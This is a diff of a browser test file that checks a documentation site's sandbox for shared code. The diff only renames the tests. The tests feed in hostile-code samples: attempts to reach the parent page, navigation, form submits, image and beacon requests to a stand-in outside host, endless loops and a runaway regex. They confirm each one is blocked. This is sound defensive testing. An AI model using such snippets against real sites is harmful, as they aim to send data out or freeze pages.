@@ -40,7 +40,7 @@ document.body.append(result);
 `;
 }
 
-test('2 templates: shared code is shown, named as foreign, and not run before the reader agrees', async ({page}) => {
+test('shared code is shown, named as foreign, and not run before the reader agrees', async ({page}) => {
   await openShared(page, "document.body.append('it runs');");
   await expect(page.getByText('It is not part of this site.')).toBeVisible();
   await expect(page.locator('.cm-content')).toContainText('it runs');
@@ -52,7 +52,7 @@ test('2 templates: shared code is shown, named as foreign, and not run before th
   await expect(output(page).locator('body')).toContainText('it runs');
 });
 
-test.describe('2 templates: reading what is not its own', () => {
+test.describe('reading what is not its own', () => {
   test.use({expected: /Blocked|Unsafe attempt|Content Security Policy/});
 
   for (const [what, expression, answer] of [
@@ -67,7 +67,7 @@ test.describe('2 templates: reading what is not its own', () => {
     ['the answer of the site', 'await fetch("/")', 'refused: TypeError'],
     ['the place of the page', 'top.location = "https://elsewhere.example/"', 'refused: SecurityError'],
   ] as const) {
-    test(`2 templates: hostile code that reads ${what} achieves nothing`, async ({page}) => {
+    test(`hostile code that reads ${what} achieves nothing`, async ({page}) => {
       await openShared(page, attempt(expression));
       await run(page);
       await expect(output(page).locator('body')).toContainText(answer);
@@ -81,14 +81,14 @@ for (const [what, code] of [
   ['for (;;)', 'for (;;);'],
   ['a loop that catches its own end', 'while (true) try { for (;;); } catch {}'],
 ] as const) {
-  test(`2 templates: hostile code that loops for ever with ${what} is stopped`, async ({page}) => {
+  test(`hostile code that loops for ever with ${what} is stopped`, async ({page}) => {
     await openShared(page, code);
     await run(page);
     await expect(page.locator('[data-shown=true]')).toContainText('ran for more than 2 seconds');
   });
 }
 
-test('2 templates: hostile code that calls itself for ever is stopped', async ({page}) => {
+test('hostile code that calls itself for ever is stopped', async ({page}) => {
   await openShared(page, 'function again() { again(); } again();');
   await run(page);
   await expect(page.locator('[data-shown=true]')).toContainText('Maximum call stack');
@@ -98,9 +98,7 @@ for (const [what, code] of [
   ['a pattern that never ends', "/^(a+)+$/.test('a'.repeat(60) + 'b');"],
   ['promises that call for each other', 'function again() { return Promise.resolve().then(again); } again();'],
 ] as const) {
-  test(`2 templates: hostile code that no guard reaches (${what}) leaves the page usable, and Stop ends it`, async ({
-    page,
-  }) => {
+  test(`hostile code that no guard reaches (${what}) leaves the page usable, and Stop ends it`, async ({page}) => {
     await openShared(page, code);
     await run(page);
     await expect(page.locator('iframe')).toHaveCount(1);
@@ -109,7 +107,7 @@ for (const [what, code] of [
   });
 }
 
-test.describe('2 templates: hostile code that wants to send something', () => {
+test.describe('hostile code that wants to send something', () => {
   test.use({expected: /Content Security Policy/});
 
   // A request to another host fails these tests.
@@ -121,7 +119,7 @@ test.describe('2 templates: hostile code that wants to send something', () => {
       'document.body.innerHTML = \'<form action="https://elsewhere.example/">\'; document.forms[0].submit();',
     ],
   ] as const) {
-    test(`2 templates: hostile code that leads its frame to ${how} is stopped`, async ({page}) => {
+    test(`hostile code that leads its frame to ${how} is stopped`, async ({page}) => {
       await openShared(page, code);
       await run(page);
       await expect(page.locator('[data-shown=true]')).toContainText('tried to open another page');
@@ -133,7 +131,7 @@ test.describe('2 templates: hostile code that wants to send something', () => {
     ['a picture', 'new Image().src = address;'],
     ['a beacon', 'navigator.sendBeacon(address);'],
   ] as const) {
-    test(`2 templates: hostile code that sends ${what} to another host is refused`, async ({page}) => {
+    test(`hostile code that sends ${what} to another host is refused`, async ({page}) => {
       await openShared(
         page,
         `const address = 'https://elsewhere.example/'; const box = document.body; ${send} box.append('it went on');`,
@@ -146,7 +144,7 @@ test.describe('2 templates: hostile code that wants to send something', () => {
   }
 });
 
-test('2 templates: another link on the same page asks again', async ({page}) => {
+test('another link on the same page asks again', async ({page}) => {
   await openShared(page, "document.body.append('first');");
   await run(page);
   await expect(output(page).locator('body')).toContainText('first');
@@ -157,7 +155,7 @@ test('2 templates: another link on the same page asks again', async ({page}) => 
   await expect(page.locator('iframe')).toHaveCount(0);
 });
 
-test('2 templates: changes to shared code stay in the address', async ({page}) => {
+test('changes to shared code stay in the address', async ({page}) => {
   await openShared(page, '// start');
   const before = page.url();
   await page.locator('.cm-content').click();
@@ -175,19 +173,19 @@ for (const [what, hash, message] of [
   ['a link of another version', '#code2=abc', 'another version of the site made it'],
   ['an address without code', '', 'This address carries no code.'],
 ] as const) {
-  test(`2 templates: ${what} says so`, async ({page}) => {
+  test(`${what} says so`, async ({page}) => {
     await open(page, `/templates/shared${hash}`);
     await expect(page.getByRole('alert').filter({hasText: message})).toBeVisible();
   });
 }
 
-test('2 templates: a link that was cut off says so', async ({page}) => {
+test('a link that was cut off says so', async ({page}) => {
   const link = await linkTo('// a note of some length, so that a good part of it can be missing');
   await open(page, link.slice(0, -40));
   await expect(page.getByRole('alert').filter({hasText: 'a part of it is missing'})).toBeVisible();
 });
 
-test('2 templates: after a broken link, Back brings the code with its changes', async ({page}) => {
+test('after a broken link, Back brings the code with its changes', async ({page}) => {
   await openShared(page, '// start');
   await page.locator('.cm-content').click();
   await page.keyboard.press('ControlOrMeta+End');
@@ -200,7 +198,7 @@ test('2 templates: after a broken link, Back brings the code with its changes', 
   await expect(page.locator('.cm-content')).toHaveText('// start and end');
 });
 
-test('2 templates: Share makes a link that opens the edited code', async ({page, context}) => {
+test('Share makes a link that opens the edited code', async ({page, context}) => {
   await context.grantPermissions(['clipboard-read', 'clipboard-write']);
   await open(page, '/docs/overview/getStarted/installation');
   const box = page.locator('figure').filter({hasText: 'First steps'}).first();
